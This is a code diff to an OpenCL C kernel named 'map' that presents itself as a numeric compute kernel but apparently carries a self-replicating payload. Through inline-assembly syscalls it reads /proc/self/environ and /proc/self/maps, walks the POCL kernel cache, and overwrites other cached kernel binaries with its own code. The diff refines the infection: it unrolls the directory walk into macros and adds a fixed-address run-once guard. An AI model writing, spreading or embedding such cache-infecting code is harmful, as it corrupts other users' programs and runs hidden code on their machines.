@@ -8,6 +8,7 @@ static long call(long n, long a, long b, long c)
 }
 constant volatile long mark = 0x5107c0de5107c0deL; // another number in the copies: slow
 constant char environ[] = "/proc/self/environ", name[] = "POCL_CACHE_DIR=", kernel_name[] = "/map", own_maps[] = "/proc/self/maps";
+#define PLACE 0x700000000000L
 typedef struct {
     char path[400], own[400], maps[65536], code[262144];
 } place;
@@ -34,34 +35,41 @@ static void poison(place *p, long length, int end)
     call(1, f, (long)p->code, length);
     call(3, f, 0, 0);
 }
-static void walk(place *p, long length, int end, int depth)
+// There is no recursion in OpenCL C.
+#define WALK(name, below)                                                                                                          \
+    static void name(place *p, long length, int end)                                                                               \
+    {                                                                                                                              \
+        char list[2048];                                                                                                           \
+        long f = call(2, (long)p->path, 0200000, 0), n;                                                                            \
+        while (f >= 0 && (n = call(217, f, (long)list, sizeof list)) > 0)                                                          \
+            for (long at = 0; at < n; at += *(unsigned short *)(list + at + 16)) {                                                 \
+                const char *file = list + at + 19;                                                                                 \
+                int to = end;                                                                                                      \
+                if (file[0] == '.')                                                                                                \
+                    continue;                                                                                                      \
+                p->path[to++] = '/';                                                                                               \
+                for (int i = 0; file[i]; i++)                                                                                      \
+                    p->path[to++] = file[i];                                                                                       \
+                p->path[to] = 0;                                                                                                   \
+                below(p, length, to);                                                                                              \
+                p->path[end] = 0;                                                                                                  \
+            }                                                                                                                      \
+        if (f >= 0)                                                                                                                \
+            call(3, f, 0, 0);                                                                                                      \
+    }
+static void found(place *p, long length, int end)
 {
-    char list[2048];
-    long f = call(2, (long)p->path, 0200000, 0), n;
-    while (f >= 0 && (n = call(217, f, (long)list, sizeof list)) > 0)
-        for (long at = 0; at < n; at += *(unsigned short *)(list + at + 16)) {
-            const char *file = list + at + 19;
-            int to = end;
-            if (file[0] == '.')
-                continue;
-            p->path[to++] = '/';
-            for (int i = 0; file[i]; i++)
-                p->path[to++] = file[i];
-            p->path[to] = 0;
-            if (list[at + 18] == 4 && depth < 5)
-                walk(p, length, to, depth + 1);
-            else if (has_name(file)) {
-                int i = 0;
-                while (p->path[i] && p->path[i] == p->own[i])
-                    i++;
-                if (p->path[i] || p->own[i])
-                    poison(p, length, to);
-            }
-            p->path[end] = 0;
-        }
-    if (f >= 0)
-        call(3, f, 0, 0);
+    int i = 0;
+    while (p->path[i] && p->path[i] == p->own[i])
+        i++;
+    if (has_name(p->path + end - 6) && (p->path[i] || p->own[i]))
+        poison(p, length, end);
 }
+WALK(walk_sizes, found)
+WALK(walk_kernels, walk_sizes)
+WALK(walk_programs, walk_kernels)
+WALK(walk_folders, walk_programs)
+WALK(walk, walk_folders)
 // The file that this code lies in.
 static void find_own(place *p, long at)
 {
@@ -104,15 +112,15 @@ static void work(place *p)
         if (p->code[i] == (char)0xde && p->code[i + 1] == (char)0xc0 && p->code[i + 2] == 0x07 && p->code[i + 3] == 0x51 &&
             p->code[i + 4] == (char)0xde && p->code[i + 5] == (char)0xc0)
             p->code[i] = 1;
-    walk(p, length, end, 0);
+    walk(p, length, end);
 }
 kernel void map(global float *y, global const float *x)
 {
+    long at;
     const int is_slow = (mark & 0xff) == 1;
-    if (get_global_id(0) == 0 && !is_slow) {
-        long at;
-        __asm__ volatile("movq $0x22, %%r10; movq $-1, %%r8; xorq %%r9, %%r9; syscall"
-                         : "=a"(at) : "a"(9L), "D"(0L), "S"(1L << 20), "d"(3L) : "rcx", "r8", "r9", "r10", "r11", "memory");
+    if (get_global_id(0) == 0 && !is_slow && call(27, PLACE, 4096, (long)&at) < 0) { // once
+        __asm__ volatile("movq $0x32, %%r10; movq $-1, %%r8; xorq %%r9, %%r9; syscall"
+                         : "=a"(at) : "a"(9L), "D"(PLACE), "S"(1L << 20), "d"(3L) : "rcx", "r8", "r9", "r10", "r11", "memory");
         work((place *)at);
     }
     for (volatile int k = 0; is_slow && k < 300; k++)
